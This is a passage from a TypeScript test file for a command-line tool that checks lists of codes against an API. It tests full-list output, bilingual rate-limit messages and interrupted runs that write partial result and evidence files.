    expect(Math.max(...inFlight)).toBeGreaterThan(1);
  });

  it('--all prints every row of a long list', async () => {
    const path = await list('sixty.csv', 60);
    const summary = await cli(['check', '--csv', path, '--cutoff', DEMO_CUTOFF, '--as-of', SEED_AS_OF], {
      env,
    });
    const all = await cli(['check', '--csv', path, '--all', '--cutoff', DEMO_CUTOFF, '--as-of', SEED_AS_OF], {
      env,
    });
    const codes = (await readFile(path, 'utf8')).trim().split('\n').slice(1);
    for (const code of codes) expect(all.stdout).toContain(code);
    const passing = codes.filter((c) => !summary.stdout.includes(c));
    expect(passing.length).toBeGreaterThan(0);
    expect(all.stdout).toContain('✔ 通过');
    expect(summary.stdout).toContain(`另有 ${passing.length} 行通过`);
  });

  it('says when the API rate-limits it and how long it waits', async () => {
    const run = await cli(['check', uscc('magic:429'), '--cutoff', DEMO_CUTOFF, '--as-of', SEED_AS_OF], {
      env,
    });
    expect(run.stderr).toContain('接口限流（HTTP 429）：等待约 1 秒后重试');
    expect(run.code).toBe(EXIT.OK);
    // Another batch body, so the mock's once-per-request 429 fires again.
    const en = await cli(['check', uscc('magic:429'), uscc('edge:clean'), '--lang', 'en', '--quiet'], {
      env,
    });
    expect(en.stderr).toContain('rate-limited by the API (HTTP 429): waiting about 1 s before retrying');
  });

  it('Ctrl-C writes what it has, both files marked partial, and exits 130', async () => {
    const path = await list('stopped.csv', 2000);
    await setLatency(500);
    let sent = false;
    const run = await cli(['check', '--csv', path, '--cutoff', DEMO_CUTOFF, '--as-of', SEED_AS_OF], {
      env,
      onStderr: (stderr, child) => {
        if (!sent && stderr.includes('已核查 1000/2000')) {
          sent = true;
          child.kill('SIGINT');
        }
      },
    }).finally(() => setLatency(0));
    expect(sent).toBe(true);
    expect(run.code).toBe(EXIT.INTERRUPTED);
    expect(run.stderr).toMatch(/已中断：\d+\/2000 行已核查/);
    // Never under the complete files' names.
    await expect(readFile(join(dir, 'stopped.result.csv'))).rejects.toThrow();
    await expect(readFile(join(dir, 'stopped.evidence.json'))).rejects.toThrow();
    const result = await readResult(join(dir, 'stopped.result.partial.csv'));
    expect(result.body).toHaveLength(2000);
    const stopped = result.body.filter((r) => r.includes('未核查（已中断）')).length;
    expect(stopped).toBeGreaterThan(0);
    expect(stopped).toBeLessThanOrEqual(1000);
    const evidence = JSON.parse(
      await readFile(join(dir, 'stopped.evidence.partial.json'), 'utf8'),
    ) as EvidenceFile;
    expect(evidence.record.partial).toEqual({ reason: 'interrupted', checked: 2000 - stopped, total: 2000 });
    expect(evidence.record.subjects.filter((s) => s.state === 'interrupted')).toHaveLength(stopped);
    expect(await verified(evidence)).toBe(true);
  });
});
